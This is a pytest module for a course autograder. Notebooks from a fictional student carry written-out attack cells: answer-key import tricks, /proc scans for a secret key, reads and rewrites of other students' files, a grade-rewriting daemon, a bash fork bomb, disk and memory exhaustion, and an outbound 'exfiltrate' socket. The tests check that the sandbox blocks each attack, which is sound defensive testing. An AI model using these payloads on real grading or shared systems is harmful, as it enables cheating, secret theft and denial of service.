"""Attacks on the grader, each handed in as a real submission and graded through `make grade`.

A three-student course: s001 and s002 hand in their solved ex03; m003 (Mallory) hands in three
notebooks whose cells attack the grader (issue 10, section 5):

* ex03 t1: pops crmlab from sys.modules and imports the answer key with importlib;
* ex03 t2: looks for the course key in every process's cmdline and environment (/proc);
* ex03 t3: reads the teacher's solutions/<id>/answers.json and another student's data;
* ex01 t1: rewrites another student's submission (her seed);
* ex01 t2: starts a detached `setsid` daemon that keeps rewriting grades.csv;
* ex01 t3: writes 10 GB;
* ex01 t4: forks until it cannot;
* ex02 t1: a shell fork bomb; t2: opens a connection to the internet; t3: asks for 10 GB of memory.

Every attack must fail to change any grade but Mallory's own, and her details must say why.
The whole module runs `make grade` once (about a minute on two busy cores).
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from crmlab import teaching
from crmlab.teaching import checks, sandbox

ROOT = Path(__file__).resolve().parents[1]
MAKE = shutil.which("make")
KEY = "attack-test-course-key-7f3a9c"
TIMEOUT = 60
GRADED = "ex01_data_overview,ex02_segmentation,ex03_loyalty"
EX = teaching.EXERCISES_DIR

pytestmark = [
    pytest.mark.skipif(
        sandbox.find_bwrap() is None,
        reason="bubblewrap (bwrap) is not installed: apt-get install bubblewrap (CI's .ci/run installs it)",
    ),
    pytest.mark.skipif(MAKE is None, reason="make is not installed"),
]


def make(course: Path, *args: str, env=None, path=None) -> subprocess.CompletedProcess:
    """`make` on the project's Makefile, run in the course folder, the venv taken as installed."""
    venv = sys.prefix
    argv = [MAKE, "-f", str(ROOT / "Makefile"), "-C", str(course), f"VENV={venv}"]
    argv += ["-o", f"{venv}/.crmlab-installed", *args]
    full = {k: v for k, v in os.environ.items() if k != "CRMLAB_COURSE_KEY"}
    full.update(env or {})
    if path is not None:
        full["PATH"] = path
    return subprocess.run(argv, capture_output=True, text=True, env=full, timeout=900)


def solution_cell(nb, tag_id: str):
    return next(c for c in nb.cells if c.get("id") == tag_id)


def attack_ex03(paths: dict) -> str:
    return {
        "t1-solution": (
            "import importlib, sys\n"
            "for name in [m for m in sys.modules if m.startswith('crmlab')]:\n"
            "    sys.modules.pop(name)\n"
            "key = importlib.import_module('crmlab.teaching' + '.che' + 'cks')\n"
            "got = key.expected_answers(load_exercise_data(seed, data_dir), notebooks=['ex03_loyalty'])\n"
            "answer_ahp_weights = got['answer_ahp_weights']\n"
            "answer_ahp_cr = got['answer_ahp_cr']\n"
            "answer_ahp_acceptable = got['answer_ahp_acceptable']\n"
        ),
        "t2-solution": (
            "import os, re\n"
            "blobs = [repr(dict(os.environ)).encode()]\n"
            "for pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
            "    for what in ('cmdline', 'environ'):\n"
            "        try:\n"
            "            blobs.append(open(f'/proc/{pid}/{what}', 'rb').read())\n"
            "        except OSError:\n"
            "            pass\n"
            "hits = [b for b in blobs if b'course-key' in b or b'COURSE_KEY' in b]\n"
            "if not hits:\n"
            "    raise RuntimeError(f'no course key visible in {len(blobs)} process files')\n"
            "answer_customer_types = {'stolen': hits[0].decode(errors='replace')}\n"
            "answer_n_mercenaries = 0\n"
        ),
        "t3-solution": (
            "import json\n"
            "stolen, failed = {}, []\n"
            f"for path in ({paths['my_key']!r}, {paths['other_data']!r}):\n"
            "    try:\n"
            "        stolen[path] = open(path).read()\n"
            "    except OSError as exc:\n"
            "        failed.append(f'{type(exc).__name__} {path}')\n"
            "if failed:\n"
            "    raise RuntimeError('could not read: ' + '; '.join(failed))\n"
            f"answer_stages = json.loads(stolen[{paths['my_key']!r}])['answers']['answer_stages']\n"
        ),
    }


def attack_ex01(paths: dict) -> dict:
    daemon = (
        "import time\n"
        "for _ in range(300):\n"
        "    try:\n"
        f"        open({paths['grades_csv']!r}, 'w').write('student_id,total\\nm003,45\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "    time.sleep(0.1)\n"
    )
    return {
        "t1-solution": (
            f"path = {paths['victim_submission']!r}\n"
            "text = open(path).read()\n"
            "open(path, 'w').write(text.replace('seed = ', 'seed = 1 + '))\n"
            "answer_n_customers = 0\nanswer_revenue = 0.0\n"
        ),
        "t2-solution": (
            "import subprocess, sys\n"
            f"subprocess.Popen(['setsid', sys.executable, '-c', {daemon!r}, 'crmlab-attack-daemon'],\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"
            "answer_top20_share = 0.123\n"
        ),
        "t3-solution": (
            "block = bytes(2**24)\n"
            "with open('big.bin', 'wb') as fh:\n"
            "    for _ in range(640):  # 10 GiB\n"
            "        fh.write(block)\n"
            "answer_repeat_share = 0.5\n"
        ),
        "t4-solution": (
            "import os, time\n"
            "children = []\n"
            "while True:\n"
            "    pid = os.fork()\n"
            "    if pid == 0:\n"
            "        time.sleep(3600)\n"
            "        os._exit(0)\n"
            "    children.append(pid)\n"
        ),
    }


ATTACK_EX02 = {
    "t1-solution": (
        "import os, subprocess, time\n"
        "subprocess.run(['bash', '-c', ':(){ :|:& };:'])\n"
        "time.sleep(3)\n"
        "n = len([p for p in os.listdir('/proc') if p.isdigit()])\n"
        "raise RuntimeError(f'fork bomb stopped at {n} processes')\n"
    ),
    "t2-solution": (
        "import socket\n"
        "socket.create_connection(('1.1.1.1', 53), timeout=5).sendall(b'exfiltrate')\n"
        "answer_rfm_codes = {}\n"
    ),
    "t3-solution": "hog = bytearray(10 * 2**30)  # 10 GiB of memory\nanswer_rfm_segments = {}\n",
}


def hand_in(folder: Path, template: Path, student_id: str, seed: int, cells: dict) -> Path:
    nb = teaching.student_notebook(template, student_id, seed)
    for cell_id, source in cells.items():
        solution_cell(nb, cell_id).source = source
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / template.name)
    return folder / template.name


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def sandbox_processes() -> list[str]:
    """Host processes still running as the sandbox's uid, or named like the daemon."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        uid = re.search(r"^Uid:\s+(\d+)", status, re.MULTILINE)
        if b"crmlab-attack-daemon" in cmdline or (uid and int(uid.group(1)) == sandbox.SANDBOX_UID):
            found.append(f"{pid}: {cmdline[:80]!r}")
    return found


class KeyWatch(threading.Thread):
    """Reads every process's command line on this machine until stopped; records the key if seen."""

    def __init__(self):
        super().__init__(daemon=True)
        self.seen, self.rounds, self.stop = [], 0, threading.Event()

    def run(self):
        while not self.stop.is_set():
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    if KEY.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                        self.seen.append(pid)
                except OSError:
                    pass
            self.rounds += 1
            time.sleep(0.05)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = tmp_path_factory.mktemp("course")
    pd.DataFrame({"student_id": ["s001", "s002", "m003"], "name": ["Ada", "Alan", "Mallory"]}).to_csv(
        course / "roster.csv", index=False
    )
    env = {"CRMLAB_COURSE_KEY": KEY}
    for target in ("exercises", "solutions"):
        done = make(course, target, "EXERCISES=ex03_loyalty", env=env)
        assert done.returncode == 0, done.stderr
    subs = course / "submissions"
    for sid in ("s001", "s002"):
        (subs / sid).mkdir(parents=True)
        shutil.copy(course / "solutions" / sid / "ex03_loyalty.ipynb", subs / sid)
    paths = {
        "other_data": str(course / "exercises" / "s001" / "data" / "transactions.csv"),
        "my_key": str(course / "solutions" / "m003" / "answers.json"),
        "victim_submission": str(subs / "s001" / "ex03_loyalty.ipynb"),
        "grades_csv": str(course / "grades" / "grades.csv"),
    }
    seed = teaching.student_seed("m003", KEY)
    mine = subs / "m003"
    hand_in(mine, EX / "ex03_loyalty.ipynb", "m003", seed, attack_ex03(paths))
    hand_in(mine, EX / "ex01_data_overview.ipynb", "m003", seed, attack_ex01(paths))
    hand_in(mine, EX / "ex02_segmentation.ipynb", "m003", seed, ATTACK_EX02)
    before = {sid: digest(subs / sid / "ex03_loyalty.ipynb") for sid in ("s001", "s002")}
    watch = KeyWatch()
    watch.start()
    done = make(course, "grade", f"EXERCISES={GRADED}", f"TIMEOUT={TIMEOUT}", env=env)
    watch.stop.set()
    watch.join()
    assert done.returncode == 0, done.stderr
    left_over = sandbox_processes()
    grades_after_make = digest(course / "grades" / "grades.csv")
    time.sleep(2)  # a surviving daemon would rewrite grades.csv by now
    details = pd.read_csv(course / "grades" / "details.csv", dtype={"student_id": str})
    return {
        "course": course,
        "grades": pd.read_csv(course / "grades" / "grades.csv", dtype={"student_id": str}).set_index(
            "student_id"
        ),
        "details": details.set_index(["student_id", "item"]),
        "before": before,
        "watch": watch,
        "left_over": left_over,
        "grades_after_make": grades_after_make,
        "stderr": done.stderr,
    }


def reason(attacked, item: str) -> str:
    return attacked["details"].loc[("m003", item), "reason"]


def test_innocent_students_keep_full_marks_and_their_submissions(attacked):
    grades, details, course = attacked["grades"], attacked["details"], attacked["course"]
    ex03 = [i.name for i in checks.items_for(["ex03_loyalty"])]
    for sid in ("s001", "s002"):
        assert grades.loc[sid, "total"] == 7
        assert (details.loc[sid].loc[ex03, "reason"] == "correct").all()
        assert digest(course / "submissions" / sid / "ex03_loyalty.ipynb") == attacked["before"][sid]
    assert grades.loc["m003", "total"] == 0


def test_importing_the_answer_key_fails_inside_the_sandbox(attacked):
    for item in ("answer_ahp_weights", "answer_ahp_cr", "answer_ahp_acceptable"):
        text = reason(attacked, item)
        assert "ImportError" in text and "not available inside the grading sandbox" in text, text


def test_the_course_key_is_on_no_command_line_and_not_in_the_sandbox(attacked):
    assert attacked["watch"].rounds > 10 and attacked["watch"].seen == []
    for item in ("answer_customer_types", "answer_n_mercenaries"):
        assert "RuntimeError: no course key visible in" in reason(attacked, item)
    for path in attacked["course"].joinpath("grades").rglob("*"):
        if path.is_file():
            assert KEY not in path.read_text(errors="replace"), path


def test_solutions_and_other_students_data_are_not_in_the_sandbox(attacked):
    text = reason(attacked, "answer_stages")
    assert "RuntimeError: could not read: FileNotFoundError " in text, text
    assert "solutions/m003/answers.json; FileNotFoundError " in text, text
    assert "exercises/s001/data/transactions.csv" in text, text


def test_another_students_submission_cannot_be_written(attacked):
    text = reason(attacked, "answer_n_customers")
    assert "FileNotFoundError" in text and "submissions/s001/ex03_loyalty.ipynb" in text, text


def test_a_detached_daemon_dies_with_the_sandbox(attacked):
    assert attacked["left_over"] == []
    grades = attacked["course"] / "grades" / "grades.csv"
    assert digest(grades) == attacked["grades_after_make"]
    assert attacked["grades"].loc["m003", "total"] == attacked["details"].loc["m003", "score"].sum() == 0
    assert "0.123 is off by" in reason(attacked, "answer_top20_share")


def test_a_10_gb_write_stops_at_the_file_size_limit(attacked):
    text = reason(attacked, "answer_repeat_share")
    assert "File too large" in text and "sandbox: file size limit, 64 MB per file" in text, text


def test_forking_stops_at_the_process_limit(attacked):
    text = reason(attacked, "answer_median_gap_days")
    assert "BlockingIOError" in text and "sandbox: process limit, 128 processes" in text, text


def test_a_fork_bomb_is_capped_and_costs_only_its_author(attacked):
    text = reason(attacked, "answer_btyd_summary")
    found = re.search(r"fork bomb stopped at (\d+) processes", text)
    assert found, text
    assert int(found.group(1)) <= 130  # the run's processes (RLIMIT_NPROC 128) and the sandbox's init
    assert attacked["details"].loc["m003", "score"].sum() == 0


def test_there_is_no_network_inside(attacked):
    text = reason(attacked, "answer_rfm_codes")
    assert "its cell 7 raised" in text and "Network is unreachable (sandbox: no network)" in text, text


def test_memory_stops_at_the_limit(attacked):
    text = reason(attacked, "answer_rfm_segments")
    assert "its cell 9 raised MemoryError" in text and "(sandbox: memory limit, 4096 MB)" in text, text


def test_grading_refuses_without_bwrap_and_says_how_to_install_it(tmp_path):
    (tmp_path / "submissions").mkdir()
    (tmp_path / "roster.csv").write_text("student_id,name\ns1,Ada\n")
    done = make(tmp_path, "grade", env={"CRMLAB_COURSE_KEY": KEY}, path="/nonexistent")
    assert done.returncode != 0
    assert "apt-get install bubblewrap" in done.stderr and "UNSAFE_NO_SANDBOX=1" in done.stderr
    assert not (tmp_path / "grades").exists()
